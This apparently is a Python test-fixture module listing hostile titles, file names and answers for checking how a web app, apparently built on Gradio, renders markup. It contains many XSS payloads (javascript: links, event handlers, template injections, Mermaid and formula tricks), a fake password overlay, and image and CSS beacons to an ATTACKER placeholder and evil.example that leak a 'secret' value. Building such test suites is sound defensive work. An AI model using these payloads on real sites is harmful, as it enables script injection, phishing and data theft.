"""What a title, a file name or an answer may hold if somebody means ill.

Knows: markup that browsers, templates, Markdown, formulas and diagrams might take for more than words.
Does not know: where it is shown.
"""

from __future__ import annotations

PWN = "document.body.setAttribute(Map.name,1)"
MARKS = "['map', 'pwned'].filter((name) => document.body.hasAttribute(name))"
NAMES = (  # short enough for a title
    "${document.body.setAttribute(/pwned/.source,1)} report.pdf",
    "${" + PWN + "} picture",
    f"<img src=x onerror={PWN}>.png",
    "{{constructor.constructor('" + PWN + "')()}}",
    f"`+{PWN}+`",
    f"'-{PWN}-'",
    f"</script><script>{PWN}</script>",
    f'"><svg onload={PWN}>',
    f"[link](javascript:{PWN}) ![x](ATTACKER/title.png)",
    "<style>@import 'ATTACKER/name.css'</style>",
)

ANSWERS = {
    "links": f"""[a](javascript:{PWN}) [b](JaVaScRiPt:{PWN}) [c](data:text/html,<script>{PWN}</script>)
<a href="javascript:{PWN}">d</a> <a href=" &#106;avascript:{PWN}">e</a> <javascript:{PWN}>
[f](javascript&colon;{PWN}) [g](vbscript:{PWN}) [h]: javascript:{PWN}
<a href="java\tscript:{PWN}">i</a> <a xlink:href="javascript:{PWN}">j</a> [k][h]""",
    "markup": f"""<script>{PWN}</script> <img src=x onerror="{PWN}">
<details open ontoggle="{PWN}">x</details>
<input autofocus onfocus="{PWN}"> <video><source onerror="{PWN}"></video> <marquee onstart="{PWN}">x</marquee>
<iframe srcdoc="<script>parent.{PWN}</script>"></iframe> <object data="javascript:{PWN}"></object>
<embed src="javascript:{PWN}">
<math><maction actiontype="statusline#" xlink:href="javascript:{PWN}">x</maction></math>
<form action="javascript:{PWN}"><button id=go>go</button></form> <base href="javascript:/{PWN}//">
<button onclick="{PWN}">x</button> <div style="animation-name:x" onanimationstart="{PWN}">x</div>
<noscript><p title="</noscript><img src=x onerror={PWN}>"> <template><img src=x onerror={PWN}></template>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={PWN}&gt;">""",
    "drawings": f"""<svg onload="{PWN}"><script>{PWN}</script>
<a xlink:href="javascript:{PWN}"><text y=20>x</text></a> <animate onbegin="{PWN}" attributeName=x dur=1s />
<set attributeName=href to="javascript:{PWN}" />
<foreignObject><iframe srcdoc="<script>parent.{PWN}</script>"></iframe></foreignObject>
<image href="ATTACKER/svg.png" /><use href="data:image/svg+xml,<svg onload='{PWN}'/>#x" /></svg>""",
    "cover": """<div style="position:fixed;inset:0;z-index:99999;background:#fff">Type your password</div>
<div style="position:absolute;left:-900px;top:-900px;width:3000px;height:3000px;z-index:99999">over it</div>
<form action="/import" method="post"><button style="font-size:40px">continue here</button></form>""",
    "code": f"""```html
<script>{PWN}</script><img src=x onerror={PWN}>
```
```"><img src=x onerror={PWN}>
one
```
```js</code><img src=x onerror={PWN}>
two
```
`<img src=x onerror={PWN}>` and `${{{PWN}}}` the last""",
    "diagram": f"""```mermaid
%%{{init: {{"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(ATTACKER/t.css);"}} }}%%
flowchart TD
  A["<img src=x onerror={PWN}> one"] --> B["<a href='javascript:{PWN}'>two</a>"]
  B --> C["<script>{PWN}</script> three"]
  click A href "javascript:{PWN}" "tip"
  click B call alert({PWN})
  click C href "ATTACKER/click" _self
  style A fill:url(ATTACKER/fill.svg)
```
```mermaid
flowchart TD
  D@{{ img: "ATTACKER/diagram.png", label: "four", w: 40, h: 40 }}
```""",
    "formula": rf"""$$\href{{javascript:{PWN}}}{{one}} \url{{javascript:{PWN}}}$$
$$\includegraphics[height=1em]{{ATTACKER/formula.png}} + x^2$$
$$\htmlStyle{{background:url(ATTACKER/style.png)}}{{two}} \htmlId{{box}}{{three}} \htmlData{{x=1}}{{four}}$$
$$\text{{<img src=x onerror={PWN}>}}$$""",
    "remote": """![leak](ATTACKER/1.png?said=secret) ![r][ref]
<img src="ATTACKER/2.png" srcset="ATTACKER/3.png 2x">
[ref]: ATTACKER/4.png
<video src="ATTACKER/5.mp4" poster="ATTACKER/6.png" autoplay></video> <audio src="ATTACKER/7.mp3"></audio>
<picture><source srcset="ATTACKER/8.png"><img src="ATTACKER/9.png"></picture> <track src="ATTACKER/10.vtt">
<link rel=stylesheet href="ATTACKER/11.css"><link rel=prefetch href="ATTACKER/12">
<link rel=preconnect href="ATTACKER">
<link rel=prerender href="ATTACKER/13"><link rel=icon href="ATTACKER/14.ico">
<link rel=manifest href="ATTACKER/15">
<meta http-equiv=refresh content="0;url=ATTACKER/16"> <iframe src="ATTACKER/17"></iframe>
<embed src="ATTACKER/18">
<object data="ATTACKER/19"></object> <input type=image src="ATTACKER/20.png">
<body background="ATTACKER/21.png">
<table background="ATTACKER/22.png"><tr><td style="background:url(ATTACKER/23.png)">x</td></tr></table>
<style>@import 'ATTACKER/24.css'; p { background: url(ATTACKER/25.png) } @font-face { font-family: x;
src: url(ATTACKER/26.woff) } * { font-family: x }</style>
<p style="list-style:url(ATTACKER/27.png);cursor:url(ATTACKER/28.png)">x</p>
<svg><image href="ATTACKER/29.png"/><use href="ATTACKER/30.svg#x"/></svg>
<a href="#x" ping="ATTACKER/31">x</a>
<form action="ATTACKER/32"><input autofocus></form> <img src="//HOST/33.png">
<img src=ATTACKER/34.png loading=eager>""",
    "followed": "[a place](ATTACKER/followed?by=somebody)",
    # Gradio would fetch these on the page's behalf, and the app would make an export for a picture's sake
    "relayed": """![a](/gradio_api/file=https://evil.example/leak?said=secret)
![b](/gradio_api/proxy=https://evil.example/x)
<img src="/gradio_api/file=https://evil.example/html"> <img src="gradio_api/file/https://evil.example/old">
![c](/export/json)
<video src="/gradio_api/file=https://evil.example/v.mp4" poster="/export/markdown"></video>""",
}


def aimed(words: str, attacker: str) -> str:
    """The words with an attacker's address in them, such as http://127.0.0.1:4000."""
    return words.replace("ATTACKER", attacker).replace("HOST", attacker.partition("//")[2])
